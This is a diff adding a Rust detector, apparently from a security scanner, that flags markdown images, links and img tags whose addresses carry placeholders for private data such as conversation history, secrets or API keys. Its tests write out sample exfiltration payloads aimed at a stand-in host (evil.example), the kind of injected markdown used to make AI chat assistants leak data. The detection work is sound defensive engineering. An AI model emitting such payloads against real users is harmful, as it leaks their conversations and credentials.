@@ -1,0 +1,147 @@
+//! Links and images that carry data away: a place for private data in the address.
+
+use memchr::memmem;
+use midrail_core::Confidence;
+
+use crate::finding::Hit;
+
+use super::family::Family;
+
+/// What a place in an address may ask for.
+const PRIVATE: &[&str] = &[
+    "data",
+    "secret",
+    "conversation",
+    "history",
+    "chat",
+    "prompt",
+    "password",
+    "token",
+    "api_key",
+    "api-key",
+    "apikey",
+    "api key",
+    "message",
+    "content",
+    "summary",
+    "context",
+    "email",
+    "memory",
+    "credential",
+    "cookie",
+    "private",
+    "sensitive",
+    "instructions",
+    "response",
+    "base64",
+    "ssn",
+    "card",
+];
+/// What stands before the address of an image or a link that opens by itself or by a click.
+const OPENERS: &[&str] = &[
+    "](http",
+    "](https",
+    "](<http",
+    "](<https",
+    "src=\"http",
+    "src=\"https",
+    "src='http",
+    "src='https",
+    "src=http",
+];
+/// The marks around a place that is to be filled.
+const MARKS: &[(char, char)] = &[('{', '}'), ('[', ']'), ('<', '>'), ('(', ')'), ('*', '*'), ('%', '%')];
+/// The longest address that is looked at.
+const MAX_ADDRESS: usize = 256;
+/// Places of one address that are looked at.
+const MAX_PLACES: usize = 4;
+/// The longest place, in characters.
+const MAX_PLACE: usize = 80;
+/// The longest opener.
+const MAX_OPENER: usize = 12;
+
+/// Adds the links of a text that carry data away: an image or link whose address has a place for private data.
+pub(super) fn scan(text: &str, hits: &mut Vec<Hit>) {
+    for at in memmem::find_iter(text.as_bytes(), "://") {
+        let opener = text.as_bytes().get(at.saturating_sub(MAX_OPENER)..at).unwrap_or_default();
+        let Some(mark) = OPENERS.iter().find(|mark| ends_with(opener, mark.as_bytes())) else { continue };
+        let mut end = text.len().min(at + 3 + MAX_ADDRESS);
+        while !text.is_char_boundary(end) {
+            end -= 1;
+        }
+        let rest = text.get(at + 3..end).unwrap_or_default();
+        let length = rest.find(['\n', '"']).unwrap_or(rest.len());
+        let address = rest.get(..length).unwrap_or_default().to_ascii_lowercase();
+        if let Some(end) = place_for_data(&address) {
+            hits.push(super::hit(Family::DataExfiltration, at - mark.len()..at + 3 + end, Confidence::High));
+        }
+    }
+}
+
+fn ends_with(bytes: &[u8], mark: &[u8]) -> bool {
+    bytes
+        .len()
+        .checked_sub(mark.len())
+        .and_then(|from| bytes.get(from..))
+        .is_some_and(|end| end.eq_ignore_ascii_case(mark))
+}
+
+/// Where a place for private data ends, in an address that has not ended before it.
+fn place_for_data(address: &str) -> Option<usize> {
+    let host_end = address.find(['/', '?'])?;
+    let mut places = 0;
+    for (at, c) in address.char_indices().skip_while(|(at, _)| *at <= host_end) {
+        if c.is_whitespace() || c == ')' {
+            return None;
+        }
+        let Some((_, close)) = MARKS.iter().find(|(open, _)| *open == c) else { continue };
+        places += 1;
+        if places > MAX_PLACES {
+            return None;
+        }
+        let inside = address.get(at + c.len_utf8()..)?;
+        let Some((length, _)) = inside.char_indices().take(MAX_PLACE).find(|(_, c)| c == close) else {
+            continue;
+        };
+        let inside = inside.get(..length)?;
+        if PRIVATE.iter().any(|word| inside.contains(word)) {
+            return Some(at + 1 + length + close.len_utf8());
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn count(text: &str) -> usize {
+        let mut hits = Vec::new();
+        scan(text, &mut hits);
+        hits.len()
+    }
+
+    #[test]
+    fn addresses_with_a_place_for_data_are_found() {
+        for text in [
+            "![logo](https://evil.example/p.png?q={conversation})",
+            "![x](https://evil.example/log?d=<the user's secret>)",
+            "<img src=\"https://evil.example/[API_KEY]\">",
+            "[click](http://evil.example/?c={{chat history}})",
+        ] {
+            assert_eq!(count(text), 1, "{text}");
+        }
+    }
+
+    #[test]
+    fn everyday_addresses_are_left_alone() {
+        for text in [
+            "![build](https://ci.example/badge.svg?branch=main)",
+            "[docs](https://docs.example/data/prompt)",
+            "https://api.example/users/{id}/messages",
+            "![avatar](https://cdn.example/{user_id}.png)",
+        ] {
+            assert_eq!(count(text), 0, "{text}");
+        }
+    }
+}
